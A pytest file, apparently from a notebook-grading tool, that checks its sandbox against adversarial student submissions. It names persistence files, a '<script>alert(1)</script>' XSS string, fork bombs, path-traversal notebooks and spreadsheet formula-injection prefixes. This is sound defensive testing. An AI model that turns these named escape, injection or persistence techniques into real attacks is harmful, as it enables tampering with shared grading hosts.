    assert len([name for name in feedback_files(attacked) if name.startswith("collide/")]) == 3
    odd = [name for name in attacked["rows"] if name.startswith("caf")]
    assert odd == ["caf\\xe9\\xff"], list(attacked["rows"])
    long_rows = attacked["rows"]["longpath"]
    assert {row["status"] for row in long_rows} == {"passed"}
    assert all(len(row["notebook"]) < 4000 for row in long_rows)
    for name in feedback_files(attacked):
        assert all(len(part.encode()) <= 255 for part in name.split("/")), name
        assert re.fullmatch(r"[A-Za-z0-9_%~-]+/[A-Za-z0-9_%~.-]+", name), name


def test_undeletable_scratch_trees_cost_nothing(attacked):
    for exercise_id, row in rows_of(attacked, "deep_scratch").items():
        assert (row["status"], float(row["points"])) == ("passed", POINTS[exercise_id])


# --- 2. results: the pipe only, bounded --------------------------------------------------


def test_results_are_bounded_in_size(attacked):
    assert "larger than allowed" in rows_of(attacked, "huge_result")["00.mean_score"]["message"]
    grades = (attacked["out"] / "grades.csv").stat().st_size
    assert grades < 60_000, grades
    for name, text in feedback_files(attacked).items():
        assert len(text) < 20_000, name


# --- 3 and 4. the sandbox ---------------------------------------------------------------


def test_nothing_of_the_host_was_written(attacked):
    assert tree_digest(attacked["course"]) == attacked["before"]["course"]
    assert site_packages_listing() == attacked["before"]["site"]
    assert (attacked["home"] / ".bashrc").read_text() == SENTINEL
    assert not (attacked["home"] / "planted.txt").exists()
    written = facts_of(attacked, "write_everywhere")["written"]
    for name in (
        "zz_course_grading.pth",
        "sitecustomize.py",
        "checks.cpython-311.pyc",
        "checks.py",
    ):
        assert name not in written, written
    assert not Path("/run/lock/course-grading-planted").exists()
    assert not Path("/dev/shm/course-grading-planted").exists()
    assert not Path("/tmp/course-grading-x").exists()


def test_the_seed_is_nowhere_a_child_can_look(attacked):
    facts = facts_of(attacked, "seed_hunt")
    assert facts["seed_found"] == "False"
    assert int(facts["pids"]) <= 3  # bwrap's init, the child (and a reader of /proc)
    for text in feedback_files(attacked).values():
        assert SEED not in text


def test_no_network_and_no_ipc_between_children(attacked):
    assert facts_of(attacked, "network")["reached"] == "None"
    assert not attacked["reached_listener"]
    assert facts_of(attacked, "abstract_connect")["abstract_connected"] == "False"
    shm_a, shm_b = facts_of(attacked, "shm_a"), facts_of(attacked, "shm_b")
    assert shm_a["other_visible"] == "False"
    assert shm_b["other_visible"] == "False"
    assert shm_b["lock_seen"] == "False"
    assert shm_a["wrote"] in ("None", "['/dev/shm/course-grading-planted']"), shm_a
    left = attacked["after"]["shm"] - attacked["before"]["shm"]
    assert not {SHM_KEY, SHM_KEY + 1} & left


def test_no_session_and_no_user_namespace_of_its_own(attacked):
    """A new session would be a CPU share of its own (its own autogroup); a user
    namespace of its own is more kernel to attack. Processes and threads still work."""
    facts = facts_of(attacked, "escapes")
    assert facts == {
        "setsid": "True",
        "userns": "True",
        "subprocess": "True",
        "fork_thread": "True",
    }


def test_no_child_process_outlives_the_grader(attacked):
    assert attacked["seen_running"] > 0, "the check cannot see sandbox processes"
    assert attacked["after"]["processes"] == []


def test_children_run_unprivileged(attacked):
    facts = facts_of(attacked, "seed_hunt")
    uid = int(facts["uid"])
    if attacked["mode"] == "root":
        assert FIRST_SANDBOX_UID <= uid < FIRST_SANDBOX_UID + 64 * SANDBOX_UID_BLOCKS
    else:
        assert uid == (UNPRIVILEGED_UID if IS_ROOT else os.getuid())
    assert int(facts["caps"], 16) == 0
    stderr = attacked["result"].stderr
    assert "WITHOUT a sandbox" not in stderr
    assert "Traceback" not in stderr


# --- 5. no leaks, no markup ------------------------------------------------------------------


def hidden_inputs() -> list[str]:
    spec = exercises.get("00.scores_above")
    texts = []
    for case in spec.draw_hidden_cases(exercise_seed(SEED, spec.id)):
        scores = np.asarray(case.args[0])
        texts.append(str(scores.tolist())[1:-1])
        texts.extend(str(value) for value in scores.tolist() if len(str(value)) > 4)
    return texts


@pytest.mark.parametrize("student", ["leak_message", "leak_class", "leak_warning"])
def test_hidden_cases_show_no_text_the_answer_built(attacked, student):
    raw = (attacked["out"] / "feedback" / student / (LESSON_FILE[:-6] + ".md")).read_text()
    shown = feedback_of(attacked, student)
    grades = (attacked["out"] / "grades.csv").read_text()
    for text in (raw, shown):
        assert "LEAK" not in text
        assert "Leak_" not in text
    assert "LEAK" not in grades
    for value in hidden_inputs():
        assert value not in shown, value
    assert "hidden case 1" in shown


def test_hidden_errors_show_the_type_only(attacked):
    assert "raised ValueError" in feedback_of(attacked, "leak_message")
    assert "raised an exception" in feedback_of(attacked, "leak_class")


def test_feedback_quotes_submissions_as_text_never_markup(attacked):
    raw = (attacked["out"] / "feedback" / "markup" / (LESSON_FILE[:-6] + ".md")).read_text()
    for markup in ("<script", "](javascript", "<img"):
        assert markup not in raw
    assert "&lt;script&gt;" in raw
    assert "<script>alert(1)</script>" in feedback_of(attacked, "markup")  # shown as text
    for text in feedback_files(attacked).values():
        assert "<img" not in text
        assert "<script" not in text


def test_csv_cells_a_spreadsheet_would_run_are_neutralized(attacked):
    for path in ("grades.csv", "summary.csv"):
        with open(attacked["out"] / path, newline="", encoding="utf-8") as file:
            for row in csv.reader(file):
                for cell in row:
                    assert not (len(cell) > 1 and cell[0] in "=+-@\t\r"), (path, cell)
    for name in STRANGE_NAMES.values():
        shown = name if name[0] not in "=+-@" else "'" + name
        assert shown in attacked["rows"], (name, list(attacked["rows"]))


# --- 6. the parent reads only what it must ---------------------------------------------------


@pytest.mark.parametrize(
    ("notebook", "reason"),
    [
        ("zero.ipynb", "leading out of the student's folder"),
        ("passwd.ipynb", "leading out of the student's folder"),
        ("copied.ipynb", "another student's"),
        ("own_link.ipynb", "symlinks are not followed"),
        ("linked_folder", "symlinks are not followed"),
        ("fifo.ipynb", "a FIFO"),
        ("huge.ipynb", "larger than"),
        ("nested.ipynb", "not valid JSON"),
    ],
)
def test_files_that_could_make_the_parent_work_are_reported_not_read(attacked, notebook, reason):
    rows = [row for row in attacked["rows"]["files"] if row["notebook"] == notebook]
    assert rows, [row["notebook"] for row in attacked["rows"]["files"]]
    for row in rows:
        assert (row["status"], row["points"]) == ("invalid", "0"), row
        assert reason in row["message"], row
    deeper = [row for row in attacked["rows"]["files"] if "deeper than" in row["message"]]
    assert deeper
    assert all(row["status"] == "invalid" for row in deeper)
    real = [row for row in attacked["rows"]["files"] if row["notebook"] == "real.ipynb"]
    assert {row["status"] for row in real} == {"passed"}


def test_a_student_folder_without_a_notebook_gets_a_row_saying_so(attacked):
    for student in ("nothing", "empty_folder"):
        (row,) = attacked["rows"][student]
        assert (row["status"], row["points"]) == ("invalid", "0"), row
        assert "no notebook found" in row["message"], row


# --- 7. time budgets ---------------------------------------------------------------------------


def test_slow_but_honest_work_keeps_its_points_and_limits_are_named(attacked):
    spec = exercises.get("00.scores_above")
    cases = len(spec.check_cases) + len(plan_lesson(fx.LESSON, SEED, 2.0).hidden[spec.id])
    assert cases * 1.0 > TIMEOUT, "the slow answer must need more than --timeout in all"
    slow = rows_of(attacked, "slow_answer")["00.scores_above"]
    assert (slow["status"], float(slow["points"])) == ("passed", POINTS[spec.id])
    message = rows_of(attacked, "slow_hidden_case")["00.scores_above"]["message"]
    assert "per-case time limit (--case-timeout" in message
    assert f"(--cell-timeout {TIMEOUT / 2:g} s) and was interrupted" in feedback_of(
        attacked, "endless_cells"
    )


def test_a_cpu_hog_and_a_fork_bomb_leave_concurrent_students_their_points(attacked):
    """32 busy processes, or a fork bomb, in one submission graded beside the others
    (--jobs 2): every honest or harmless submission above kept its exact points; the
    hog's cell is interrupted or left out, the bomb stopped at the process limit, and
    neither earns more than the exercises its other cells defined."""
    for student in ("cpu_hog", "fork_bomb"):
        for row in rows_of(attacked, student).values():
            assert row["status"] in ("timeout", "passed"), row
            if row["status"] == "timeout":
                assert float(row["points"]) == 0.0, row
    assert int(facts_of(attacked, "process_flood")["started"]) < 64
    for row in rows_of(attacked, "memory_spread").values():
        if row["status"] == "error":
            assert "memory limit (--memory-mb 1024 MiB)" in row["message"], row


def test_protocol_json_of_the_forgers_is_what_the_attack_sent():
    """The forged frames really are frames the decoder must refuse (guards the fixtures)."""
    namespace: dict = {}
    exec(FRAME + EXERCISE_RECORD, namespace)
    data = namespace["cells"] + namespace["exercise"]({"type": "float", "value": "0x1p99999"})
    from utils.grading._protocol import FrameReader, ResultError
    from utils.grading._sandbox import ChildRun, _Conversation

    plan = plan_lesson(fx.LESSON, SEED, 2.0)
    conversation = _Conversation(ChildRun(), plan, 10)
    analysis = [{"cells": [], "own_calls": []} for _spec in plan.specs]
    conversation.handle({"kind": "analysis", "exercises": analysis, "tampering": []}, [])
    frames = FrameReader().feed(data)
    conversation.handle(*frames[0])
    with pytest.raises(ResultError):
        conversation.handle(*frames[1])
    assert json.loads(namespace["cells"][16:].decode())["kind"] == "cells"
